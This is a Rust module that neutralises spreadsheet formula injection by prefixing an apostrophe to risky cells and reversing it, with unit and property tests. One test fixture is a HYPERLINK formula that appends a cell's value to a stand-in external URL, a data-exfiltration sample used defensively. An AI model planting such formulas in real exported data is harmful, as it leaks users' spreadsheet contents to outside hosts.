//! Cells of tables that spreadsheets open.
//!
//! A spreadsheet takes a cell that begins with `=`, `+`, `-` or `@` for a formula, which can read other
//! cells and send them away. An apostrophe in front makes it a text.

use std::borrow::Cow;

/// Whether spreadsheets may take a cell that begins like this for a formula.
const fn is_formula_start(first: char) -> bool {
    matches!(
        first,
        '=' | '+'
            | '-'
            | '@'
            | '\t'
            | '\r'
            | '\n'
            | '\u{ff1d}'
            | '\u{ff0b}'
            | '\u{ff0d}'
            | '\u{ff20}'
    )
}

/// Whether a cell is a formula behind any number of apostrophes.
fn is_marked(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(is_formula_start)
}

/// The cell as text: what would be a formula gets an apostrophe in front, and so does what has some
/// already, so that [`restored`] gives back exactly this cell.
#[must_use]
pub fn neutral(cell: &str) -> Cow<'_, str> {
    if is_marked(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// The cell as it was before [`neutral`].
#[must_use]
pub fn restored(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| is_marked(rest)).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formulas_become_texts() {
        for (cell, expected) in [
            ("=HYPERLINK(\"http://e.example/\"&A1)", "'=HYPERLINK(\"http://e.example/\"&A1)"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\u{ff1d}1", "'\u{ff1d}1"),
            ("'=1", "''=1"),
            ("'tis", "'tis"),
            ("a=1", "a=1"),
            ("", ""),
        ] {
            assert_eq!(neutral(cell), expected);
            assert_eq!(restored(expected), cell);
        }
    }

    proptest! {
        #[test]
        fn every_cell_comes_back(cell in "['=+@\t\r\n a-]{0,6}", other: String) {
            for cell in [cell, other] {
                let written = neutral(&cell).into_owned();
                prop_assert!(!written.starts_with(is_formula_start));
                prop_assert_eq!(restored(&written), cell);
            }
        }
    }
}
